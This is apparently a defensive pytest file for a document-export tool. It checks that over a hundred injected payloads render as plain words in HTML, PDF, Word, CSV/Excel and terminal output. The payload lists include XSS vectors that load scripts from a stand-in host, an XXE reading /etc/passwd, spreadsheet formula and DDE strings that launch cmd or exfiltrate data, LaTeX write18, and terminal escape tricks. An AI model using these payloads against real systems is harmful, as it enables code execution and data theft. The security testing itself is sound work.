"""What would act somewhere acts nowhere: every payload in every field, in every format."""

import csv
import io
import re
import zipfile
from html.parser import HTMLParser

import docx
import openpyxl
import pikepdf
import pytest
from nbformat import v4

from analysis.cli_words import say
from analysis.export.document import read_document
from analysis.export.html import render_html
from analysis.export.index.entry import IndexEntry
from analysis.export.index.index import render_index
from analysis.export.markdown_writers import without_scheme
from analysis.export.pdf import render_pdf
from analysis.export.tables import named_tables, render_csv, render_workbook
from analysis.export.typst_source import write_data
from analysis.export.word.word import render_word

BROWSER = [
    "<script>alert(1)</script>",
    "<ScRiPt/src=//x.dk/a.js>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<body onload=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt&colon;alert(1)'>x</a>",
    "<form action=//x.dk><button>send</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<math><mtext><style><img src onerror=alert(1)></style></mtext></math>",
    "<style>@import '//x.dk/a.css'</style>",
    "<style>body{background:url(//x.dk/a)}</style>",
    "<link rel=stylesheet href=//x.dk/a.css>",
    "<meta http-equiv=refresh content='0;url=//x.dk'>",
    "<base href=//x.dk/>",
    "<object data=//x.dk/a.swf></object>",
    "<embed src=//x.dk/a>",
    "<template><script>x</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "{{7*7}}",
    "{% include '/etc/passwd' %}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{{constructor.constructor('alert(1)')()}}",
    "onmouseover=alert(1) x=",
    "style=position:fixed;top:0",
    "expression(alert(1))",
    "https://x.dk/?a=<script>",
]
SHEET = [
    "=1+1",
    "=2+5+cmd|' /C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://x.dk?"&A1,"Klik")',
    '=WEBSERVICE("http://x.dk")',
    '=IMPORTXML("http://x.dk","//a")',
    '=IMAGE("http://x.dk/a.png")',
    '=DDE("cmd";"/C calc";"x")',
    "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "|calc",
    "%0A=1+1",
    "';=1+1",
    '";=1+1',
    'x";"=1+1',
    "x\n=1+1",
    "{=SUM(1)}",
    "#REF!",
    "TRUE",
]
PAPER = [
    '#import "@preview/x:1.0.0"',
    '#read("/etc/passwd")',
    "#let x = 1",
    '#eval("1+1")',
    "#panic()",
    "@reference <label>",
    "$x^2$",
    "*fed* _kursiv_ `kode`",
    "= overskrift",
    "\\input{/etc/passwd}",
    "\\write18{calc}",
    "\\href{javascript:alert(1)}{x}",
    "// en kommentar",
    "/* en kommentar */",
    "]#[",
]
WORD = [
    'INCLUDETEXT "\\\\\\\\x.dk\\\\a.docx"',
    'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"',
    '{ HYPERLINK "http://x.dk" }',
    "</w:t></w:r><w:r><w:instrText>DDE</w:instrText></w:r>",
    "MACROBUTTON x klik",
]
TERMINAL = [
    "\x1b[31mrød\x1b[0m",
    "\x1b]0;ny titel\x07",
    "\x1b]8;;http://x.dk\x1b\\klik\x1b]8;;\x1b\\",
    "\x1b[2J\x1b[H",
    "\x9b31m",
    "a\rb",
    "a\x08b",
    "[red]x[/red]",
    "abc\u202edcba",
    "\u2066skjult\u2069",
    "nul\u200bbredde",
]
# No font of ours has them, so that paper refuses them by name; a sheet could take them as formulas.
WIDE = ["\uff1d1+1", "\uff0b1+1", "\uff0d1+1", "\uff201+1"]
PAYLOADS = BROWSER + SHEET + PAPER + WORD + TERMINAL
TAGS_THAT_ACT = {"script", "iframe", "object", "embed", "form", "input", "button", "base", "link"}
ACTIONS = {"/JavaScript", "/JS", "/Launch", "/OpenAction", "/EmbeddedFile", "/SubmitForm", "/AA"}
FIELDS = {"SEQ", "PAGE", "NUMPAGES", "PAGEREF", "NOTEREF", "HYPERLINK"}


class Page(HTMLParser):
    """The elements, attributes and words that a browser would find."""

    def __init__(self, markup: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: set[str] = set()
        self.attributes: list[tuple[str, str, str]] = []
        self.words = ""
        self.feed(markup)
        self.close()

    def handle_starttag(self, tag, attrs) -> None:
        self.tags.add(tag)
        self.attributes += [(tag, name, value or "") for name, value in attrs]

    def handle_data(self, data) -> None:
        self.words += data


def plain(text: str) -> str:
    """A payload as a reader of a page sees it: without what has no shape, blanks as one."""
    kept = re.sub("[\x00-\x08\x0b-\x1f\x7f-\x9f]", "", without_scheme(text))
    return " ".join(kept.split())


@pytest.fixture(scope="module")
def notebook(make, block_cell):
    columns = [{"key": "a", "text": PAYLOADS[0]}, {"key": "b", "text": PAYLOADS[50]}]
    rows = [[{"text": text, "value": text}] * 2 for text in PAYLOADS]
    title = "Titel " + PAYLOADS[26]
    about = {"source": PAYLOADS[1], "notes": PAYLOADS[:5]}
    return make(
        block_cell(
            {
                "type": "facts",
                "caption": PAYLOADS[2],
                "items": [
                    {"term": text, "text": text, "evidence_label": text} for text in PAYLOADS
                ],
            }
        ),
        block_cell({"type": "heading", "level": 2, "text": PAYLOADS[24], "label": "h"}),
        *(block_cell({"type": "paragraph", "text": text}) for text in PAYLOADS),
        block_cell({"type": "list", "items": PAYLOADS, "ordered": True}),
        block_cell({"type": "callout", "kind": "note", "title": PAYLOADS[0], "items": PAYLOADS}),
        block_cell(
            {
                "type": "table",
                "name": "tal",
                "caption": PAYLOADS[3],
                "columns": columns,
                "rows": rows,
            }
            | about
        ),
        v4.new_code_cell(
            "x",
            outputs=[v4.new_output("stream", name="stdout", text=f"{text}\n") for text in PAYLOADS],
        ),
        title=title,
        subtitle=PAYLOADS[40],
        stamps=[PAYLOADS[4]],
        meta=[[PAYLOADS[5], PAYLOADS[6]]],
        keywords=[PAYLOADS[7]],
        description=PAYLOADS[8],
    )


def inert(markup: str) -> Page:
    """The page, when nothing on it can act or leave."""
    page = Page(markup)
    assert page.tags & TAGS_THAT_ACT == set()
    assert [
        a for a in page.attributes if a[1].startswith("on") or a[1] in {"style", "srcdoc"}
    ] == []
    addresses = [value for _, name, value in page.attributes if name in {"href", "src", "action"}]
    assert [a for a in addresses if not a.startswith(("#", "data:image/"))] == []
    return page


def test_there_are_more_than_a_hundred() -> None:
    assert len(set(PAYLOADS)) >= 100


def test_a_page_holds_them_as_words(notebook) -> None:
    words = " ".join(inert(render_html(read_document(notebook))).words.split())
    assert [text for text in PAYLOADS if plain(text) not in words] == []


def test_an_index_holds_them_as_words() -> None:
    entries = [
        IndexEntry(
            slug=f"runde-{number}",
            round_name=text,
            issued=text,
            area_slug=text,
            area_name=text,
            notebook="x",
            language="da",
            href_html="",
            href_pdf="",
            status="failed",
            message=text,
        )
        for number, text in enumerate(PAYLOADS)
    ]
    words = " ".join(inert(render_index(entries, "da")).words.split())
    assert [text for text in PAYLOADS if plain(text) not in words] == []


def test_markdown_holds_them_as_words(make) -> None:
    # A payload in Markdown is Markdown: it may become emphasis or a formula, but never act.
    cells = [
        v4.new_markdown_cell(f"før {text} efter") for text in BROWSER + SHEET + WORD + TERMINAL
    ]
    inert(render_html(read_document(make(*cells))))


def test_paper_does_nothing(notebook) -> None:
    document = read_document(notebook)
    data = write_data(document)
    said = [part["text"] for part in data["body"] if part["type"] == "paragraph"]
    assert [" ".join(text.split()) for text in said] == [
        " ".join(re.sub("[\x00-\x08\x0b-\x1f\x7f-\x9f]", "", text).split()) for text in PAYLOADS
    ]
    with pikepdf.open(io.BytesIO(render_pdf(document))) as pdf:
        found = {
            key for item in pdf.objects if isinstance(item, pikepdf.Dictionary) for key in item
        }
        assert found & ACTIONS == set()
        kinds = {
            str(item.S)
            for item in pdf.objects
            if isinstance(item, pikepdf.Dictionary)
            and "/S" in item
            and str(item.get("/Type", "")) in {"", "/Action"}
        }
        assert kinds & {"/URI", "/JavaScript", "/Launch", "/GoToR", "/ImportData"} == set()


def test_word_does_nothing(notebook) -> None:
    file = render_word(notebook)
    words = " ".join(p.text for p in docx.Document(io.BytesIO(file)).paragraphs)
    kept = " ".join(re.sub(r"\s+", " ", words).split())
    assert [
        text
        for text in PAYLOADS
        if " ".join(re.sub("[\x00-\x08\x0b-\x1f\x7f-\x9f]", "", text).split()) not in kept
    ] == []
    with zipfile.ZipFile(io.BytesIO(file)) as package:
        for name in package.namelist():
            content = package.read(name)
            assert not name.endswith((".bin", ".vml"))
            if name.endswith(".rels"):
                assert b'TargetMode="External"' not in content
            if name.endswith(".xml"):
                fields = re.findall(r"<w:instrText[^>]*>\s*(\w+)", content.decode())
                assert set(fields) <= FIELDS


def test_a_sheet_computes_nothing(make, block_cell) -> None:
    rows = [[{"text": text, "value": text}] for text in PAYLOADS + WIDE]
    table = {"type": "table", "name": "tal", "caption": "Svar", "rows": rows}
    document = read_document(make(block_cell(table | {"columns": [{"text": PAYLOADS[50]}]})))
    [(_, found)] = named_tables(document)
    written = io.StringIO(render_csv(found, language="da").decode("utf-8-sig"))
    begins = tuple("=+-@\t\r\n|%\uff1d\uff0b\uff0d\uff20")
    cells = [cell.lstrip(" ") for row in csv.reader(written, delimiter=";") for cell in row]
    assert [cell for cell in cells if cell.startswith(begins)] == []
    book = openpyxl.load_workbook(io.BytesIO(render_workbook(document)))
    shown = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert {cell.data_type for cell in shown} <= {"s", "n"}
    assert [cell.hyperlink for cell in shown if cell.hyperlink] == []


def test_a_terminal_shows_them(capsys) -> None:
    for text in PAYLOADS:
        say(text, text)
    told = capsys.readouterr().err
    assert re.findall("[\x00-\x09\x0b-\x1f\x7f-\x9f\u200b\u202e\u2066]", told) == []
    assert "‹U+001B›[31mrød" in told
    assert "[red]x[/red]" in told
